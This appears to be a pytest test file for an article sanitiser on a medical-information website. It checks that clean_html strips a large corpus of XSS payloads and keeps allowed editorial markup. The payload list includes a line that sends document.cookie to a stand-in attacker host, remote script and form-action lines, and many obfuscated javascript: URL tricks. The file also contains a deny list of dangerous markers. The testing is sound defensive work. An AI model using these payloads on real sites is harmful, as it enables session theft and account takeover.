"""The rich-text allow-list: what clean_html removes, what it keeps, and its helpers."""

import pytest

from articles.models import Article
from articles.sanitize import clean_html, html_to_text, images_missing_alt_text

from .factories import ArticleFactory

DANGEROUS_MARKERS = (
    "<script",
    "javascript:",
    "vbscript:",
    "data:",
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onbegin",
    "<iframe",
    "<frame",
    "<style",
    "<link",
    "<svg",
    "<math",
    "<object",
    "<embed",
    "<base",
    "<meta",
    "<form",
    "<input",
    "<button",
    "<textarea",
    "<video",
    "<audio",
    "<details",
    "<template",
    "formaction",
    "srcdoc",
    "expression(",
    "style=",
    "evil.example",
)

XSS_PAYLOADS = [
    # <script> in various spellings
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<script src="https://evil.example/x.js"></script>',
    "<script/xss>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<p>safe</p><script>document.location='https://evil.example/?'+document.cookie</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    # event handlers
    '<img src="/media/x.png" alt="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=/media/x.png ALT=x ONERROR=alert(1)>",
    '<body onload="alert(1)"><p>hi</p></body>',
    '<p onclick="alert(1)">click</p>',
    '<a href="https://example.org" onmouseover="alert(1)">hover</a>',
    '<h2 onfocus="alert(1)" tabindex="0">heading</h2>',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    '<video><source onerror="alert(1)"></video>',
    '<audio src=x onerror="alert(1)"></audio>',
    # dangerous URL schemes, plain and disguised
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="x">',
    '<img src="javascript:alert(1)" alt="x">',
    # svg and math tricks
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate onbegin="alert(1)" attributeName="x"/></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<math href="javascript:alert(1)">x</math>',
    # style, link, meta, base
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="width: expression(alert(1))">x</p>',
    '<div style="background-image: url(javascript:alert(1))">x</div>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    # frames and plugins
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<frameset><frame src="https://evil.example/"></frameset>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    # forms
    '<form action="https://evil.example/"><input name="password"></form>',
    '<button formaction="javascript:alert(1)">Go</button>',
    '<input type="image" src="x" onerror="alert(1)">',
    '<textarea autofocus onfocus="alert(1)">x</textarea>',
    # templates and noscript mutation tricks
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    # images from another host (patient pages request nothing from elsewhere)
    '<img src="https://evil.example/tracker.png" alt="tracker">',
    '<img src="//evil.example/tracker.png" alt="tracker">',
    '<img src="http://evil.example/media/tracker.png" alt="tracker">',
]


def test_the_corpus_is_large_enough():
    assert len(XSS_PAYLOADS) >= 40
    assert len(set(XSS_PAYLOADS)) == len(XSS_PAYLOADS)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_classic_xss_payloads_are_neutralised(payload):
    cleaned = clean_html(payload).lower()
    for marker in DANGEROUS_MARKERS:
        assert marker not in cleaned, f"{marker!r} survived in {cleaned!r}"


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_cleaning_is_stable(payload):
    cleaned = clean_html(payload)
    assert clean_html(cleaned) == cleaned


# --- What editors may write ---------------------------------------------------------

ALLOWED_MARKUP = [
    "<h2>Before</h2><h3>The night before</h3><h4>Eating</h4>",
    "<p>Rest for a day.<br>Then walk a little.</p>",
    "<ul><li>Bring your <strong>medication list</strong></li><li><em>Wear</em> loose clothes</li></ul>",
    '<ol start="3"><li>Third</li><li>Fourth</li></ol>',
    "<p><b>Bold</b> and <i>italic</i></p>",
    "<blockquote><p>It was easier than I thought.</p></blockquote>",
    '<figure><img src="/media/editor/spine.png" alt="Side view of the spine" width="640" height="480"><figcaption>The spine</figcaption></figure>',
    (
        "<table><caption>Recovery</caption>"
        '<thead><tr><th scope="col">Day</th><th scope="col">What you can do</th></tr></thead>'
        '<tbody><tr><td>1</td><td rowspan="2">Rest</td></tr><tr><td colspan="1">2</td></tr></tbody>'
        "</table>"
    ),
    '<p><a href="mailto:team@example.org" rel="noopener noreferrer">Write to us</a> or <a href="tel:+15550100" rel="noopener noreferrer">call</a></p>',
    '<p><a href="/en/guides/spinal-fractures/" rel="noopener noreferrer">the guide</a></p>',
]


@pytest.mark.parametrize("markup", ALLOWED_MARKUP)
def test_allowed_markup_survives_intact(markup):
    assert clean_html(markup) == markup


def test_links_get_noopener_noreferrer_and_keep_their_address():
    cleaned = clean_html(
        '<p><a href="https://www.example.org/spine" title="More" target="_blank">More</a></p>'
    )
    assert cleaned == (
        '<p><a href="https://www.example.org/spine" title="More" '
        'rel="noopener noreferrer">More</a></p>'
    )


def test_an_editors_own_rel_is_replaced():
    cleaned = clean_html('<a href="https://example.org" rel="opener">x</a>')
    assert cleaned == '<a href="https://example.org" rel="noopener noreferrer">x</a>'


def test_disallowed_tags_are_dropped_but_their_text_is_kept():
    cleaned = clean_html(
        '<div class="x"><span style="color:red">Keep</span> <u>this</u> <h1>text</h1></div>'
    )
    assert cleaned == "Keep this text"


def test_classes_ids_and_styles_are_dropped_from_allowed_tags():
    cleaned = clean_html('<p class="lead" id="top" style="color: red">Hello</p>')
    assert cleaned == "<p>Hello</p>"


def test_images_from_another_host_are_dropped_entirely():
    cleaned = clean_html(
        '<p>Before<img src="https://cdn.example.org/a.png" alt="An x-ray">after</p>'
    )
    assert cleaned == "<p>Beforeafter</p>"


@pytest.mark.parametrize("value", ["50%", "-1", "1e3", "123456", "10px"])
def test_image_sizes_must_be_small_whole_numbers(value):
    cleaned = clean_html(f'<img src="/media/a.png" alt="A spine" width="{value}">')
    assert cleaned == '<img src="/media/a.png" alt="A spine">'


def test_comments_are_removed():
    assert clean_html("<p>Visible<!-- editor note --></p>") == "<p>Visible</p>"


@pytest.mark.parametrize("value", [None, "", "   "])
def test_empty_input_gives_an_empty_string(value):
    assert clean_html(value) == ""


def test_text_is_escaped_not_interpreted():
    assert clean_html("<p>1 < 2 & 3 > 2</p>") == "<p>1 &lt; 2 &amp; 3 &gt; 2</p>"


# --- html_to_text -------------------------------------------------------------------


def test_html_to_text_puts_each_block_on_its_own_line():
    text = html_to_text(
        "<h2>Before</h2><p>Rest <strong>well</strong>.</p>"
        "<ul><li>One</li><li>Two</li></ul><p>Line<br>break</p>"
    )
    assert text.splitlines() == ["Before", "Rest well.", "One", "Two", "Line", "break"]


def test_html_to_text_keeps_words_of_neighbouring_cells_and_captions_apart():
    text = html_to_text(
        "<table><tr><th>Day 1</th><td>Rest</td></tr></table>"
        '<figure><img src="/media/a.png" alt="A spine"><figcaption>The spine</figcaption>'
        "</figure><p>After</p>"
    )
    words = text.split()
    assert "1Rest" not in words
    assert "spineAfter" not in words
    assert words == ["Day", "1", "Rest", "The", "spine", "After"]


def test_html_to_text_decodes_entities_and_drops_scripts_and_styles():
    text = html_to_text(
        "<p>Fish &amp; chips &lt;3</p><script>alert(1)</script><style>p{}</style>"
    )
    assert text == "Fish & chips <3"


@pytest.mark.parametrize("value", [None, "", "<p>  </p>"])
def test_html_to_text_of_nothing_is_empty(value):
    assert html_to_text(value) == ""


# --- images_missing_alt_text -----------------------------------------------------


@pytest.mark.parametrize(
    ("html", "missing"),
    [
        ("<p>No pictures</p>", 0),
        ('<img src="/media/a.png" alt="A spine">', 0),
        ('<img src="/media/a.png">', 1),
        ('<img src="/media/a.png" alt="">', 1),
        ('<img src="/media/a.png" alt="   ">', 1),
        (
            '<img src="/media/a.png" alt="A"><img src="/media/b.png"><img src="/media/c.png" alt="">',
            2,
        ),
        (None, 0),
    ],
)
def test_images_missing_alt_text_counts_images_without_a_description(html, missing):
    assert images_missing_alt_text(html) == missing


def test_alt_text_counting_works_on_cleaned_html():
    cleaned = clean_html(
        "<p><IMG SRC='/media/a.png'><img alt='A spine' src='/media/b.png'></p>"
    )
    assert images_missing_alt_text(cleaned) == 1


# --- Every save goes through the allow-list ------------------------------------------


@pytest.mark.django_db
def test_saving_an_article_stores_cleaned_rich_text():
    article = ArticleFactory(
        introduction=(
            '<p onclick="alert(1)">Hello<script>alert(2)</script></p>'
            '<a href="javascript:alert(3)">x</a>'
            '<img src="https://evil.example/t.png" alt="tracker">'
        ),
        closing="<iframe src='https://evil.example/'></iframe><p>Bye</p>",
    )
    stored = Article.objects.values("introduction", "closing").get(pk=article.pk)
    assert stored == {
        "introduction": '<p>Hello</p><a rel="noopener noreferrer">x</a>',
        "closing": "<p>Bye</p>",
    }
